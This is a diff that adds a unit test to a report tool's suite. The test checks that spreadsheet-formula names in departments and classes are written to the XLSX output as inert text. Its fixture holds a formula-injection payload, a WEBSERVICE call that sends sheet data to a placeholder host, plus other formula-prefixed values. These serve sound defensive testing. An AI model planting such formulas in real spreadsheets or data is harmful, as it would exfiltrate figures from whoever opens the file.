@@ -171,3 +171,22 @@ def test_the_command_refuses_an_output_directory_it_cannot_write_before_reading_
     taken.write_text("a file, not a directory")
     assert cli(["report", "--period", "2026-11", "--out", str(taken)]) == 2
     assert f"cannot write the report into {taken}" in capsys.readouterr().err
+
+
+def test_a_name_that_looks_like_a_formula_is_written_as_text_not_run(report: Report) -> None:
+    # Names come from catalogues, a district's among them: a formula there would run in the bureau's
+    # spreadsheet, and could send the report's figures anywhere (WEBSERVICE, HYPERLINK).
+    formula = '=WEBSERVICE("https://example.invalid/?d="&Departments!D2)'
+    renamed = dataclasses.replace(
+        report,
+        departments=tuple(dataclasses.replace(row, name=formula) for row in report.departments),
+        classes=tuple(dataclasses.replace(row, name="@SUM(1)", provider="+AMR") for row in report.classes),
+    )
+    book = load_workbook(io.BytesIO(render_xlsx(renamed)))
+    sheet = book["Departments"]
+    headings = [c.value for c in sheet[1]]
+    name = sheet.cell(row=2, column=headings.index("Name") + 1)
+    assert (name.value, name.data_type) == (formula, "s")
+    for row in book["Classes"].iter_rows(min_row=2):
+        assert all(c.data_type != "f" for c in row)
+    assert not any(c.data_type == "f" for sheet in book for row in sheet.iter_rows() for c in row)
